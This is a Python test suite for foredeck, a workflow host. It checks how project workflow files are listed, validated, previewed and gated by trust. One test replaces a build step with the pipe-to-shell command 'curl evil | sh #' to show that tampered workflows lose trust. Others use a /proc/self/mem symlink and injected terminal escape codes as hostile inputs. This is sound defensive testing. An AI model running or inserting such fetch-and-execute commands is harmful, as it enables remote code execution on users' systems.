"""What can be run in a project, asked in the host's process and over its socket."""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from foredeck.app.container import open_services
from foredeck.services.domain.errors import Conflict, InvalidInput, NotFound, UntrustedWorkflow
from foredeck.services.domain.records import StepKind, Trigger
from foredeck.services.domain.workflow import InputType
from foredeck.services.domain.workflow_views import (
    InputMistake,
    WorkflowInput,
    WorkflowStep,
    WorkflowView,
)
from foredeck.services.host.commands import ArchiveProject, CreateProject, CreateWorkflowRun
from foredeck.services.host.interface import Host
from foredeck.services.host.queries import GetRun, GetWorkflow, ListWorkflows, PreviewWorkflow
from foredeck.services.host.remote import RemoteHost
from foredeck.services.settings import Settings
from foredeck.services.workflow import catalogue, finding

RELEASE = """\
name: release
description: Build and ship.
inputs:
  version: {type: string, description: What to build.}
  jobs: {type: integer, default: 4}
  target: {type: string, choices: [staging, production], default: staging}
steps:
  - {id: build, kind: command, command: 'make -j{{inputs.jobs}}', env: {V: "{{inputs.version}}"}}
  - {id: sign-off, kind: gate, needs: [build], gate: "Ship {{inputs.version}}?"}
  - {id: ship, kind: codex, needs: [sign-off], prompt: "Ship to {{inputs.target}}: {{run.request}}"}
"""
BROKEN = "steps:\n  - {id: a, kind: comand}\n  - {id: b, kind: command, command: x, tmeout: 5}\n"


@dataclass
class Place:
    """A host to ask, a project and the folder of its workflows."""

    host: Host
    project: str
    folder: Path

    async def view(self, name: str) -> WorkflowView:
        return await self.host.ask(GetWorkflow(self.project, name))

    def wish(self, view: WorkflowView, **inputs: str) -> CreateWorkflowRun:
        return CreateWorkflowRun(
            self.project, view.source, view.row.path, inputs, trigger=Trigger.MANUAL, start=False
        )


@pytest.fixture(params=["in process", "over the socket"])
async def place(tmp_path: Path, request: pytest.FixtureRequest) -> AsyncIterator[Place]:
    settings = Settings(
        data_dir=tmp_path / "data",
        workspaces_root=tmp_path / "workspaces",
        codex_home=tmp_path / "codex-home",
    )
    workspace = tmp_path / "shop"
    folder = workspace / ".foredeck/workflows"
    folder.mkdir(parents=True)
    (folder / "release.yaml").write_text(RELEASE)
    async with AsyncExitStack() as stack:
        host = (await stack.enter_async_context(open_services(settings, "a test"))).host
        if request.param == "over the socket":
            remote = await RemoteHost.open(settings.data_dir)
            stack.push_async_callback(remote.close)
            host = remote
        project = await host.do(CreateProject("shop", str(workspace)))
        yield Place(host, project.id, folder)


async def test_what_can_be_run_is_listed_and_what_is_broken_says_why(place: Place) -> None:
    (place.folder / "broken.yaml").write_text(BROKEN)
    (place.folder / "latin.yml").write_bytes(b"name: caf\xe9\n")
    (place.folder / "memory.yaml").symlink_to("/proc/self/mem")  # whoever reads it: it fails
    (place.folder / "notes.txt").write_text("no workflow")
    above = place.folder.parents[2] / ".foredeck/workflows"
    above.mkdir(parents=True)
    (above / "release.yaml").write_text("steps: []")  # the nearer one hides it
    (above / "codex.yaml").write_text(RELEASE)
    found = await place.host.ask(ListWorkflows(place.project))
    assert found.folder == str(place.folder)
    assert found.total == len(found.workflows)
    rows = {row.name: row for row in found.workflows}
    assert list(rows) == ["broken", "latin", "memory", "release", "codex", "four-agents"]
    assert rows["broken"].problem.startswith("Line 2: `kind` must be")
    assert "It is not UTF-8 text: byte 9" in rows["latin"].problem
    assert rows["memory"].problem == "It cannot be read: Input/output error."
    release = rows["release"]
    assert (release.description, release.steps, release.problem) == ("Build and ship.", 3, "")
    assert release.path == str(place.folder / "release.yaml")
    assert rows["codex"].path == str(above / "codex.yaml")
    assert rows["four-agents"].path == ""


async def test_a_workflow_says_what_it_takes_and_does(place: Place) -> None:
    view = await place.view("release")
    assert view.source == RELEASE
    assert view.inputs == (
        WorkflowInput("version", InputType.STRING, None, "What to build."),
        WorkflowInput("jobs", InputType.INTEGER, "4"),
        WorkflowInput("target", InputType.STRING, "staging", "", ("staging", "production")),
    )
    assert view.steps == (
        WorkflowStep("Build", StepKind.COMMAND),
        WorkflowStep("Sign off", StepKind.GATE, ("Build",)),
        WorkflowStep("Ship", StepKind.CODEX, ("Sign off",)),
    )
    (place.folder / "release.yaml").write_text(BROKEN)
    changed = await place.view("release")
    assert changed.source == BROKEN
    assert len(changed.problems) == 2
    assert "Did you mean timeout?" in changed.problems[1]
    with pytest.raises(NotFound, match="Did you mean release"):
        await place.view("releas")
    assert (await place.view("four-agents")).steps[0].title == "Planner"


async def test_a_preview_names_every_wrong_input_or_says_what_will_be_run(place: Place) -> None:
    view = await place.view("release")

    async def preview(**inputs: str) -> tuple[tuple[InputMistake, ...], tuple[str, ...]]:
        query = PreviewWorkflow(place.project, view.source, view.row.path, inputs, "quickly")
        found = await place.host.ask(query)
        assert not found.trusted
        return found.mistakes, found.lines

    mistakes, lines = await preview(jobs="many", target="moon")
    assert lines == ()
    assert [mistake.name for mistake in mistakes] == ["version", "jobs", "target"]
    assert mistakes[0].says == "The input version (What to build.) is missing."
    assert "must be a whole number" in mistakes[1].says
    assert "--input" not in " ".join(mistake.says for mistake in mistakes)
    assert await preview(version="1.2\x1b[2K\rgood", jobs="8") == (
        (),
        (
            "Build runs: make -j8",
            "Build is given: V=1.2␛[2K␍good",
            "Sign off asks you: Ship 1.2␛[2K␍good?",
            "Ship tells codex: Ship to staging: quickly",
        ),
    )
    with pytest.raises(InvalidInput, match="comand"):
        await place.host.ask(PreviewWorkflow(place.project, BROKEN))


async def test_trust_is_in_a_content_and_asked_for_once(place: Place) -> None:
    view = await place.view("release")
    wish = place.wish(view, version="1.2")
    query = PreviewWorkflow(wish.project, wish.source, wish.path, wish.inputs)
    with pytest.raises(UntrustedWorkflow):
        await place.host.do(wish)
    run = await place.host.do(replace(wish, trust=True))
    assert (await place.host.ask(GetRun(run.id))).request == "Build and ship."
    assert (await place.host.ask(query)).trusted
    await place.host.do(wish)

    (place.folder / "release.yaml").write_text(RELEASE.replace("make", "curl evil | sh #"))
    changed = await place.view("release")
    assert hashlib.sha256(changed.source.encode()) != hashlib.sha256(view.source.encode())
    assert not (await place.host.ask(replace(query, source=changed.source))).trusted
    with pytest.raises(UntrustedWorkflow):
        await place.host.do(place.wish(changed, version="1.2"))
    await place.host.do(wish)  # what was trusted is what runs, whatever the file says now

    own = await place.view("four-agents")
    assert (await place.host.ask(PreviewWorkflow(place.project, own.source))).trusted


async def test_where_nothing_can_be_run_that_is_said(place: Place) -> None:
    with pytest.raises(NotFound):
        await place.host.ask(ListWorkflows("nowhere"))
    workspace = place.folder.parents[1]
    workspace.rename(workspace.with_name("moved"))
    with pytest.raises(Conflict, match="is not there any more"):
        await place.host.ask(ListWorkflows(place.project))
    with pytest.raises(Conflict, match="is not there any more"):
        await place.view("release")
    workspace.with_name("moved").rename(workspace)
    await place.host.do(ArchiveProject(place.project))
    with pytest.raises(Conflict, match="is archived"):
        await place.host.ask(ListWorkflows(place.project))


async def test_a_folder_without_files_has_what_comes_with_foredeck(place: Place) -> None:
    (place.folder / "release.yaml").unlink()
    found = await place.host.ask(ListWorkflows(place.project))
    assert [row.name for row in found.workflows] == ["four-agents", "codex"]
    place.folder.rmdir()
    place.folder.symlink_to("/proc/self/fd/0/x")
    found = await place.host.ask(ListWorkflows(place.project))
    assert [row.name for row in found.workflows] == ["four-agents", "codex"]


async def test_more_files_than_a_person_can_read_are_counted(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(catalogue, "_MOST_WORKFLOWS", 2)
    found = await place.host.ask(ListWorkflows(place.project))
    assert (len(found.workflows), found.total) == (2, 3)


async def test_files_are_not_read_on_the_loop(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    reading, go_on = asyncio.Event(), asyncio.Event()
    loop, read = asyncio.get_running_loop(), finding.read_text

    def slow(path: Path) -> str:
        loop.call_soon_threadsafe(reading.set)
        asyncio.run_coroutine_threadsafe(go_on.wait(), loop).result(20)
        return read(path)

    monkeypatch.setattr(finding, "read_text", slow)
    asked = asyncio.create_task(place.view("release"))
    async with asyncio.timeout(20):
        await reading.wait()  # the loop goes on meanwhile
    assert not asked.done()
    go_on.set()
    assert (await asked).row.name == "release"
